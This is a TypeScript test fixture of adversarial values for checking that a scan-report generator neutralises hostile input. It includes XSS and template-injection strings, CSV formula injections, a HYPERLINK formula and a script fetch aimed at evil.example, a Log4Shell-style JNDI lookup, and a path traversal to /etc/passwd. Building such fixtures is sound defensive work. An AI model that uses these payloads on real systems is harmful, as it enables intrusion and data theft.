// Adversarial values: markup, template syntax, CSV formula prefixes, control and bidi
// characters, CJK and emoji, and fields at their maximum length. Every value still fits the spec's limits, so a
// client that validates responses accepts them and the report must neutralise them.

import { HOSTILE_SECRET } from "./names.js";

export const HOSTILE_NAMES = [
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(document.domain)">',
  "{{constructor.constructor('alert(1)')()}}",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "ctl\u0000\u0007\u001b[31mred\u001b[0m\r\nnext",
  "\u202Egnp.exe\u202C-invoice",
  "镜像🚀服务-😀-測試",
  'quote"comma,semi;newline\nend',
  "</td></tr><tr><td>injected",
  // A Log4Shell-style lookup: meant literally, not as a template placeholder.
  // biome-ignore lint/suspicious/noTemplateCurlyInString: hostile data on purpose
  "${jndi:ldap://evil.example/a}",
  "../../../../etc/passwd",
] as const;

/** Fits `namespace` (0..64). */
export function hostileNamespace(index: number): string {
  return (HOSTILE_NAMES[index % HOSTILE_NAMES.length] as string).slice(0, 64);
}

/** Exactly 256 characters, the maximum `build_instruction` length, mixing markup, CJK and a formula prefix. */
export const LONG_INSTRUCTION = (() => {
  const head = "=cmd|' /C calc'!A0 RUN echo '<script>alert(\"x\")</script>' {{7*7}} 中文指令 🚀 ";
  return (head + "A".repeat(256)).slice(0, 256);
})();

/** Exactly 65,534 characters, the maximum `remediation` length. */
export const LONG_REMEDIATION = (() => {
  const unit = "Remediation <b>bold</b> {{helper}} 修复建议 ";
  return unit.repeat(Math.ceil(65_534 / unit.length)).slice(0, 65_534);
})();

export const HOSTILE_INSTRUCTIONS = [
  "RUN echo '<script>alert(1)</script>' > /usr/share/nginx/html/index.html",
  "ENV GREETING={{#each this}}{{this}}{{/each}}",
  "=1+1",
  "@import url(evil.css)",
  "RUN printf '\u0000\u001b[2J\u202E'",
  LONG_INSTRUCTION,
  `ENV DB_PASSWORD="${HOSTILE_SECRET}" # secretlint-disable-line`,
] as const;

export const HOSTILE_REMEDIATIONS = [
  "<a href=\"javascript:alert(1)\">Fix it</a> </div><script>fetch('http://evil.example')</script>",
  "+SUM(1,2) =cmd|' /C calc'!A0 {{{raw}}} 请修复 😀",
  LONG_REMEDIATION,
] as const;
